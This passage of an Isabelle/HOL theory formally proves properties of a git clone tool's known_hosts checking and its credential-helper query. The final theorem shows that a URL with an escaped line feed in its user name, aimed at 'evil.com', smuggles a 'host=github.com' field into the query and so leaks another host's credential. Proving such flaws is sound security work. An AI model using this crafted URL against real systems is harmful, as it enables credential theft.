      index_chr_first [of "CHR '']''" "CHR ''['' # x" "CHR '':'' # p"]
    by (simp add: split_host_port_def)
qed

lemma normalize_host_spellings:
  assumes h: "list_all is_scp_host_char h" and p: "list_all is_digit port"
  shows "normalize_known_host h = to_lower h" and "normalize_known_host (h @ '':'' @ port) = to_lower h"
    and "normalize_known_host (''['' @ h @ '']:'' @ port) = to_lower h"
proof -
  let ?h = "to_lower h"
  note b = host_port_chars [OF h] and c = host_port_chars [OF lower_host_chars [OF h]]
  have pc: "list_all is_scp_host_char port" using p by (auto simp: list_all_iff is_scp_host_char_def is_alnum_def)
  note d = host_port_chars [OF pc]
  have low: "to_lower port = port" using p by (auto simp: to_lower_def lower_char_def is_upper_def is_digit_def list_all_iff intro!: map_idI)
  have lit: "lower_char CHR '':'' = CHR '':''" "lower_char CHR ''['' = CHR ''[''" "lower_char CHR '']'' = CHR '']''" by code_simp+
  have sp: "\<not> is_space CHR '':''" "\<not> is_space CHR ''[''" "\<not> is_space CHR '']''" by code_simp+
  have l: "to_lower (h @ '':'' @ port) = ?h @ CHR '':'' # port" "to_lower (''['' @ h @ '']:'' @ port) = CHR ''['' # ?h @ CHR '']'' # CHR '':'' # port"
    using low lit by (simp_all add: to_lower_def)
  have "trim_prefix ?h ''['' = ?h" using c(2) by (auto simp: trim_prefix_def has_prefix_iff)
  moreover have "trim_suffix ?h '']'' = ?h" using c(3) by (auto simp: trim_suffix_def has_suffix_iff)
  ultimately show "normalize_known_host h = to_lower h"
    using trim_space_none [OF b(4)] last_index_chr_None [OF c(1)] by (simp add: normalize_known_host_def split_host_port_def)
  note sp2 = split_host_port_plain [OF c(1-3) d(1-3)]
  have "trim_space (h @ '':'' @ port) = h @ '':'' @ port" using b(4) d(4) sp by (intro trim_space_none) auto
  then show "normalize_known_host (h @ '':'' @ port) = to_lower h" using l sp2 by (simp add: normalize_known_host_def)
  have "trim_space (''['' @ h @ '']:'' @ port) = ''['' @ h @ '']:'' @ port"
    using b(4) d(4) sp by (intro trim_space_none) auto
  then show "normalize_known_host (''['' @ h @ '']:'' @ port) = to_lower h" using l sp2 by (simp add: normalize_known_host_def)
qed

text \<open>
  C24. Host keys are checked against configured known hosts: when the data parses to the end, a key is
  accepted exactly when the host has no unhashed entry, or one of its entries records that very
  key.  What counts as the same host: a name alone, with a port, or in brackets with a port, in
  either letter case.
\<close>

theorem known_hosts_verdict:
  assumes "known_hosts_entries (parse_known_hosts env) (c # data) es"
    and "\<not> insecure_skip_host_key_verify (git s)" and "known_hosts (git s) = Some (c # data)"
  shows "(\<exists>t. ssh_host_key_callback env s = Some (Inr (Some (InMemoryKeys t))) \<and>
    (check_host_key t hostname key = None \<longleftrightarrow>
       (let recorded = {k. \<exists>hs x. (hs, k) \<in> set es \<and> x \<in> set hs \<and> \<not> has_prefix x ''|'' \<and>
                             normalize_known_host x = normalize_known_host hostname}
        in recorded = {} \<or> key \<in> recorded))) \<and>
    (\<forall>h port x. list_all is_scp_host_char h \<and> list_all is_digit port \<and> x \<in> {h, h @ '':'' @ port, ''['' @ h @ '']:'' @ port} \<longrightarrow>
       normalize_known_host x = to_lower h)"
proof -
  let ?t = "foldl (\<lambda>t (hs, key). add_hosts hs key t) [] es"
  let ?R = "{k. \<exists>hs x. (hs, k) \<in> set es \<and> x \<in> set hs \<and> \<not> has_prefix x ''|'' \<and>
            normalize_known_host x = normalize_known_host hostname}"
  have cb: "ssh_host_key_callback env s = Some (Inr (Some (InMemoryKeys ?t)))"
    using known_hosts_loop_entries [OF assms(1), of "[]"] assms(2,3)
    by (simp add: ssh_host_key_callback_def known_hosts_callback_def)
  have "set (keys_of ?t (normalize_known_host hostname)) = ?R"
    using keys_of_fold [of _ "[]" es "normalize_known_host hostname"] by (auto simp: keys_of_def)
  moreover have "check_host_key ?t hostname key = None \<longleftrightarrow>
      set (keys_of ?t (normalize_known_host hostname)) = {} \<or> key \<in> set (keys_of ?t (normalize_known_host hostname))"
    by (simp add: check_host_key_def Let_def)
  ultimately have chk: "check_host_key ?t hostname key = None \<longleftrightarrow> ?R = {} \<or> key \<in> ?R"
    by simp
  have "\<exists>t. ssh_host_key_callback env s = Some (Inr (Some (InMemoryKeys t))) \<and>
      (check_host_key t hostname key = None \<longleftrightarrow> ?R = {} \<or> key \<in> ?R)"
    by (rule exI [of _ ?t]) (rule conjI [OF cb chk])
  then show ?thesis unfolding Let_def using normalize_host_spellings by blast
qed

text \<open>
  Reading known hosts ends: with a parser that consumes some input for each entry, the loop
  returns a table or an error for any data.
\<close>

theorem known_hosts_terminates:
  assumes "\<And>rest hosts key remaining.
    parse_known_hosts env rest = Inr (Some (hosts, key, remaining)) \<Longrightarrow> length remaining < length rest"
  shows "\<exists>r. ssh_host_key_callback env s = Some r"
  using known_hosts_loop_total [of "parse_known_hosts env", OF assms]
  by (auto simp: ssh_host_key_callback_def known_hosts_callback_def split: option.split list.split)

lemma demo_parse_consumes:
  "parse_known_hosts demo_auth_env rest = Inr (Some (hosts, key, remaining)) \<Longrightarrow> length remaining < length rest"
  by (cases rest) (auto simp: demo_auth_env_def split: list.splits if_splits)

theorem known_hosts_terminates_witness:
  "\<exists>r. ssh_host_key_callback demo_auth_env (default_settings ''/tmp'' :: unit settings) = Some r"
  by (rule known_hosts_terminates) (rule demo_parse_consumes)

definition demo_hosts_settings :: "unit settings" where
  "demo_hosts_settings = (default_settings ''/tmp'')\<lparr>git := (git (default_settings ''/tmp'' :: unit settings))
     \<lparr>known_hosts := Some ''[H.com]:22 k1''\<rparr>\<rparr>"

theorem known_hosts_verdict_witness:
  "\<exists>t. ssh_host_key_callback demo_auth_env demo_hosts_settings = Some (Inr (Some (InMemoryKeys t))) \<and>
     check_host_key t ''h.com:22'' ''k2'' \<noteq> None"
proof -
  have "parse_known_hosts demo_auth_env ''[H.com]:22 k1'' = Inr (Some ([''[H.com]:22''], ''k1'', []))"
    by (simp add: demo_auth_env_def)
  then have "known_hosts_entries (parse_known_hosts demo_auth_env) ''[H.com]:22 k1'' [([''[H.com]:22''], ''k1'')]"
    by (intro known_hosts_entries.entry [OF _ _ known_hosts_entries.at_end]) simp_all
  from known_hosts_verdict [OF this, of demo_hosts_settings "''h.com:22''" "''k2''"]
  obtain t where t: "ssh_host_key_callback demo_auth_env demo_hosts_settings = Some (Inr (Some (InMemoryKeys t)))"
    "check_host_key t ''h.com:22'' ''k2'' = None \<longleftrightarrow>
       (let recorded = {k. \<exists>hs x. (hs, k) \<in> set [([''[H.com]:22''], ''k1'')] \<and> x \<in> set hs \<and> \<not> has_prefix x ''|'' \<and>
                             normalize_known_host x = normalize_known_host ''h.com:22''}
        in recorded = {} \<or> ''k2'' \<in> recorded)"
    by (auto simp: demo_hosts_settings_def default_settings_def)
  have "normalize_known_host ''[H.com]:22'' = ''h.com''" "normalize_known_host ''h.com:22'' = ''h.com''"
    by code_simp+
  with t show ?thesis by auto
qed

text \<open>
  The system helper is asked about the host the clone connects to, as long as no part of the
  query contains a line feed.
\<close>

theorem credential_query_names_host:
  assumes "CHR 0x0A \<notin> set protocol" and "CHR 0x0A \<notin> set host" and "CHR 0x0A \<notin> set user"
  shows "query_attr (credential_query protocol host user @ nl) ''protocol'' = Some protocol \<and>
     query_attr (credential_query protocol host user @ nl) ''host'' = Some host \<and>
     query_attr (credential_query protocol host user @ nl) ''username'' = (if user = [] then None else Some user)"
proof -
  have n: "split_chr CHR 0x0A nl = [[], []]" by (simp add: nl_def)
  have p: "split_chr CHR 0x0A ((''protocol='' @ protocol) @ nl @ t) = (''protocol='' @ protocol) # split_chr CHR 0x0A t" for t
    by (rule split_nl) (use assms in simp)
  have h: "split_chr CHR 0x0A ((''host='' @ host) @ nl @ t) = (''host='' @ host) # split_chr CHR 0x0A t" for t
    by (rule split_nl) (use assms in simp)
  have u: "split_chr CHR 0x0A ((''username='' @ user) @ nl @ t) = (''username='' @ user) # split_chr CHR 0x0A t" for t
    by (rule split_nl) (use assms in simp)
  have "split_chr CHR 0x0A (credential_query protocol host user @ nl) =
      [''protocol='' @ protocol, ''host='' @ host] @ (if user = [] then [] else [''username='' @ user]) @ [[], []]"
    using p h u n by (simp add: credential_query_def)
  then have "takeWhile (\<lambda>l. l \<noteq> []) (split_chr CHR 0x0A (credential_query protocol host user @ nl)) =
      [''protocol='' @ protocol, ''host='' @ host] @ (if user = [] then [] else [''username='' @ user])"
    by simp
  then show ?thesis
    by (simp only: query_attr_def) (simp add: List.map_filter_simps cut_attr [simplified])
qed

theorem credential_query_names_host_witness:
  "query_attr (credential_query ''https'' ''h.com'' ''me'' @ nl) ''host'' = Some ''h.com''"
  using credential_query_names_host [of "''https''" "''h.com''" "''me''"] by simp

text \<open>
  The user name of a URL may carry an escaped line feed, which the query then contains
  literally: a download from one host makes the helper look up, and the clone send, the credential
  of another.
\<close>

theorem credential_query_injection:
  "\<exists>u. url_parse ''https://x%0Ahost=github.com@evil.com/o/r.git'' = Some u \<and> url_hostname u = ''evil.com'' \<and>
     url_credential (Some u) = None \<and>
     query_attr (credential_query (u_scheme u) (url_hostname u) (url_user_of (Some u)) @ nl) ''host'' = Some ''github.com''"
proof -
  have "(case url_parse ''https://x%0Ahost=github.com@evil.com/o/r.git'' of None \<Rightarrow> False | Some u \<Rightarrow>
     url_hostname u = ''evil.com'' \<and> url_credential (Some u) = None \<and>
     query_attr (credential_query (u_scheme u) (url_hostname u) (url_user_of (Some u)) @ nl) ''host'' = Some ''github.com'')"
    by code_simp
  then show ?thesis
    by (cases "url_parse ''https://x%0Ahost=github.com@evil.com/o/r.git''") (simp, simp only: option.case, blast)
qed

end
